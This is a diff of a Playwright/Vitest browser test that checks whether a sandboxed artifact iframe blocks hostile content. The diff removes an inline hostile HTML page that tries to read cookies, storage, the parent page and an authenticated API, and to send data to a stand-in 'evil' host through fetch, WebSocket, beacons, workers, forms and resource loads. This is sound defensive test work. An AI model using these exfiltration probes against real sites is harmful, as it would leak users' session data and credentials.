@@ -4,6 +4,7 @@ import type { Browser, Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { artifactFrameRoutes } from "../../src/http/artifact-frame.ts";
 import { chromiumPath, launchChromium } from "./chromium.ts";
+import { hostilePage, type Told } from "./hostile-artifact.ts";
 
 /** The part of the app's policy that decides where a frame may go. */
 const parentPolicy = "default-src 'none'; script-src 'unsafe-inline'; frame-src 'self'";
@@ -18,43 +19,6 @@ addEventListener("message", ({ source, data }) => {
   if (data.type === "natter-artifact-frame") frame.contentWindow.postMessage({ type: "natter-artifact", html: window.content }, "*");
   else window.told.push(data);
 });
-</script>`;
-
-/** What a hostile artifact tries: each line says what it got, or that it failed. */
-const hostile = (evil: string, own: string): string => `<!doctype html>
-<link rel="prefetch" href="${evil}/prefetch"><link rel="stylesheet" href="${evil}/style"><img src="${evil}/image">
-<style>body { background: url(${evil}/background) } @import "${evil}/import"; @font-face { font-family: x; src: url(${evil}/font) }</style>
-<p style="font-family: x">text</p><iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><video src="${evil}/video"></video>
-<form id="form" action="${evil}/form" method="post"><input name="a"></form>
-<meta http-equiv="refresh" content="0;url=${evil}/refresh"><script src="${evil}/script"></script>
-<svg><script>parent.postMessage({ what: "svg", got: "ran" }, "*")</script></svg>
-<script>
-const tell = (what, got) => parent.postMessage({ what, got: String(got) }, "*");
-const tries = {
-  parent: () => parent.document.body.textContent,
-  top: () => top.document.body.textContent,
-  cookie: () => document.cookie,
-  storage: () => localStorage.getItem("key"),
-  session: () => sessionStorage.length,
-  database: () => indexedDB.open("x").readyState,
-  fetch: () => fetch("${evil}/fetch").then((answer) => answer.text()),
-  api: () => fetch("${own}/v1/me", { credentials: "include" }).then((answer) => answer.text()),
-  socket: () => new Promise((done, fail) => { const s = new WebSocket("${evil.replace("http", "ws")}/socket"); s.onopen = () => done("opened"); s.onerror = () => fail("refused"); }),
-  beacon: () => navigator.sendBeacon("${evil}/beacon", "x") && "sent",
-  worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker')"]))); w.onerror = () => fail("refused"); setTimeout(() => done("unknown"), 200); }),
-  popup: () => window.open("${evil}/popup").closed,
-  navigateTop: () => { top.location = "${evil}/top"; return "tried"; },
-  form: () => { form.submit(); return "tried"; },
-  dialog: () => { const box = alert("x"); return "tried"; },
-  import: () => import("${evil}/module"),
-};
-(async () => {
-  for (const [what, attempt] of Object.entries(tries)) {
-    try { tell(what, await attempt()); } catch (error) { tell(what, "failed"); }
-  }
-  tell("end", "");
-  location = "${evil}/self";
-})();
 </script>`;
 
 describe.skipIf(chromiumPath === null)("S20 an artifact in its frame", () => {
@@ -104,9 +68,7 @@ describe.skipIf(chromiumPath === null)("S20 an artifact in its frame", () => {
     }
   });
 
-  const show = async (
-    content: string,
-  ): Promise<{ page: Page; told: () => Promise<{ what: string; got: string }[]> }> => {
+  const show = async (content: string): Promise<{ page: Page; told: () => Promise<Told[]> }> => {
     const page = await browser.newPage();
     await page
       .context()
@@ -115,13 +77,13 @@ describe.skipIf(chromiumPath === null)("S20 an artifact in its frame", () => {
     await page.goto(`${addressOf(own)}/parent`);
     return {
       page,
-      told: () => page.evaluate(() => (window as unknown as { told: { what: string; got: string }[] }).told),
+      told: () => page.evaluate(() => (window as unknown as { told: Told[] }).told),
     };
   };
 
   test("runs its own scripts, reaches nothing, and reads nothing", async () => {
     const dialogs: string[] = [];
-    const { page, told } = await show(hostile(addressOf(evil), addressOf(own)));
+    const { page, told } = await show(hostilePage(addressOf(evil), addressOf(own)));
     page.on("dialog", (dialog) => {
       dialogs.push(dialog.message());
       void dialog.dismiss();
